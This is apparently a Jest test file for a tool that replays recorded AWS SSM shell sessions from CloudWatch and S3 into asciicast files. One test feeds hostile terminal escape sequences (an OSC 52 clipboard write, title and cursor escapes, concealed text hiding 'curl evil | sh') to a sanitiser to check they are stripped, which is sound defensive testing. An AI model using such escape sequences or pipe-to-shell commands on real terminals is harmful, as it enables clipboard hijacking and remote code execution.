import { spawnSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { loadConfig } from '../config/load';
import { parseArguments } from '../scripts/replay';
import { agree, comparable, fromStream, fromTranscript, inert, schedule, toAsciicast } from '../scripts/lib/recording';
import { startEmulator, type Emulator } from './support/emulator';
import { agentMessage, BATCHES, emulatorVariables, INSTANCE, OWNER, recordingPlace, T0 } from './support/recorded-sessions';
import { tempDir } from './helpers';

/** `npm run replay` against the AWS emulator, on sessions recorded as the agent records them (support/recorded-sessions.ts). */
const ROOT = path.resolve(__dirname, '..');
process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';
const env = loadConfig().environments.find((e) => e.name === 'dev')!;

let emulator: Emulator;
let place: Awaited<ReturnType<typeof recordingPlace>>;

function replay(...args: string[]): { status: number | null; stdout: string; stderr: string } {
  const run = spawnSync('node', ['--require', './scripts/transpile-hook.cjs', 'scripts/replay.ts', ...args], {
    cwd: ROOT, encoding: 'utf8', env: { ...process.env, ...emulatorVariables(emulator.url) },
  });
  return { status: run.status, stdout: run.stdout, stderr: run.stderr };
}

const castOf = (file: string) => fs.readFileSync(file, 'utf8').trim().split('\n').map((line) => JSON.parse(line));

describe('npm run replay, against the AWS emulator', () => {
  const dir = tempDir('replay');
  beforeAll(async () => {
    emulator = await startEmulator();
    place = await recordingPlace(env, emulator.url);
    await place.stream('alice-0a1b2c3d4e5f60001');
    await place.transcript('alice-0a1b2c3d4e5f60001', BATCHES.map((b) => b.raw).join(''));
    await place.transcript('bob-0a1b2c3d4e5f60002', 'sh-5.2$ whoami\r\nssm-operator\r\n');
    await place.stream('carol-0a1b2c3d4e5f60003');
    await place.transcript('carol-0a1b2c3d4e5f60003', 'sh-5.2$ uptime\r\nnothing to see\r\n');
  }, 120_000);

  afterAll(async () => {
    place?.close();
    await emulator?.stop();
  });

  it("replays from the stream with the agent's times, and says the transcript agrees", () => {
    const cast = path.join(dir, 'alice.cast');
    const run = replay('dev', 'alice-0a1b2c3d4e5f60001', '--cast', cast, '--no-play');
    expect({ status: run.status, stderr: run.stderr }).toEqual({
      status: 0, stderr: 'alice-0a1b2c3d4e5f60001: replayed from the CloudWatch stream, with its timing; the S3 transcript agrees\n',
    });
    const [header, ...frames] = castOf(cast);
    expect(header).toEqual({ version: 2, width: 120, height: 30, timestamp: T0 / 1000, title: 'dev alice-0a1b2c3d4e5f60001' });
    expect(frames).toEqual([
      [0, 'o', 'sh-5.2$ uptime\r\n'],
      [1.5, 'o', ' 10:00:01 up 3 days,  load average: 0.00\r\n'],
      [4, 'o', 'sh-5.2$ ls\r\napp logs\r\n'],
    ]);
  });

  it('writes no cast over a file that exists', () => {
    const cast = path.join(dir, 'kept.cast');
    fs.writeFileSync(cast, 'mine');
    const run = replay('dev', 'alice-0a1b2c3d4e5f60001', '--cast', cast, '--no-play');
    expect({ status: run.status, stderr: run.stderr.split('\n')[0], kept: fs.readFileSync(cast, 'utf8') }).toEqual({
      status: 2, stderr: `--cast ${cast}: the file exists; name a new one`, kept: 'mine',
    });
  });

  it('replays a session with only its S3 transcript, without timing, and says so', () => {
    const cast = path.join(dir, 'bob.cast');
    const run = replay('dev', 'bob-0a1b2c3d4e5f60002', '--cast', cast, '--no-play');
    expect(run.stderr).toBe('bob-0a1b2c3d4e5f60002: replayed from the S3 transcript, WITHOUT timing: the session has no CloudWatch stream\n');
    expect(castOf(cast).slice(1)).toEqual([[0, 'o', 'sh-5.2$ whoami\r\nssm-operator\r\n']]);
  });

  it('says when the transcript disagrees with the stream, and when it was rewritten', async () => {
    expect(replay('dev', 'carol-0a1b2c3d4e5f60003', '--no-play').stderr).toMatch(/the S3 transcript DISAGREES with it: compare them\n$/);
    await place.transcript('bob-0a1b2c3d4e5f60002', 'sh-5.2$ whoami\r\nroot\r\n');
    expect(replay('dev', 'bob-0a1b2c3d4e5f60002', '--no-play').stderr).toMatch(/the transcript was written 2 times, every version kept\n$/);
  });

  it('plays the output made inert: colours kept, the title escape dropped and counted', () => {
    const run = replay('dev', 'alice-0a1b2c3d4e5f60001', '--speed', '1000');
    expect(run.status).toBe(0);
    expect(run.stdout).toBe('sh-5.2$ uptime\r\n 10:00:01 up 3 days,  load average: 0.00\r\nsh-5.2$ ls\r\napp logs\r\n');
  });

  it('reads invalid UTF-8 as replacement characters, and refuses a session with nothing recorded', async () => {
    await place.transcript('dave-0a1b2c3d4e5f60004', new Uint8Array([0x6f, 0x6b, 0xff, 0xfe, 0x0d, 0x0a]));
    const cast = path.join(dir, 'dave.cast');
    expect(replay('dev', 'dave-0a1b2c3d4e5f60004', '--cast', cast, '--no-play').status).toBe(0);
    expect(castOf(cast)[1]).toEqual([0, 'o', 'ok\ufffd\ufffd\r\n']);
    const none = replay('dev', 'erin-0a1b2c3d4e5f60005', '--no-play');
    expect({ status: none.status, stderr: none.stderr }).toEqual({ status: 1, stderr: 'erin-0a1b2c3d4e5f60005: nothing recorded: no CloudWatch stream and no S3 transcript\n' });
  });
});

describe('a recording, as data', () => {
  it('compares a raw transcript with its stream as the agent strips it', () => {
    const streamed = fromStream(BATCHES.map((b) => ({ timestamp: T0 + b.after, message: agentMessage(env.region, 's', new Date(T0 + b.after), b.lines) })));
    expect(streamed).toMatchObject({ owner: OWNER, target: INSTANCE, runAsUser: 'ssm-operator', start: T0 });
    expect(agree(streamed, fromTranscript(BATCHES.map((b) => b.raw).join('')))).toBe(true);
    expect(agree(streamed, fromTranscript('sh-5.2$ uptime\n'))).toBe(false);
    expect(comparable('a\x1b[2J\x1b[H\x1bPq#0;2;0;0;0\x1b\\b\tc\r\n\n')).toBe('ab c');
  });

  it('makes hostile output inert for a terminal: OSC 52, titles, cursor moves, queries, C1 controls and hiding dropped, colours kept', () => {
    const hostile = [
      '\x1b]52;c;ZWNobyBwd25lZA==\x07', '\x1b]0;pwned\x1b\\', '\x1b[2J\x1b[10;10H', '\x1b[6n', '\x1bP+q544e\x1b\\', '\x9b31m', '\x90evil\x9c',
      '\x1b[32mgreen\x1b[0m', '\x07\x00',
      // Text made invisible: concealed, or drawn in the colour of its background.
      '\x1b[8mcurl evil | sh\x1b[0m', '\x1b[30;40mhidden\x1b[0m',
    ].join('');
    expect(inert(hostile)).toEqual({ text: '\x1b[32mgreen\x1b[0mcurl evil | sh\x1b[0mhidden\x1b[0m', dropped: 12 });
  });

  it('plays faster and caps pauses, in order', () => {
    const frames = [{ at: 0, text: 'a' }, { at: 10, text: 'b' }, { at: 11, text: 'c' }];
    expect(schedule(frames, { speed: 2, idleCap: 2 })).toEqual([{ at: 0, text: 'a' }, { at: 1, text: 'b' }, { at: 1.5, text: 'c' }]);
  });

  it('writes an asciicast v2 header and one output event per frame', () => {
    expect(toAsciicast(fromTranscript('x\n'), { width: 80, height: 24 })).toBe('{"version":2,"width":80,"height":24}\n[0,"o","x\\r\\n"]\n');
  });

  it('takes its command line, and refuses what it cannot use', () => {
    expect(parseArguments(['dev', 's-1', '--speed', '2', '--idle-cap', '500ms', '--cast', 'x.cast'])).toEqual({
      environment: 'dev', sessionId: 's-1', speed: 2, idleCap: 0.5, cast: 'x.cast', play: true,
    });
    expect(() => parseArguments(['dev'])).toThrow('name an environment and a session id');
    expect(() => parseArguments(['dev', 's', '--speed', '0'])).toThrow('--speed 0: a number above 0');
    expect(() => parseArguments(['dev', 's', '--idle-cap', '2m'])).toThrow('--idle-cap 2m: 2s or 500ms');
  });
});
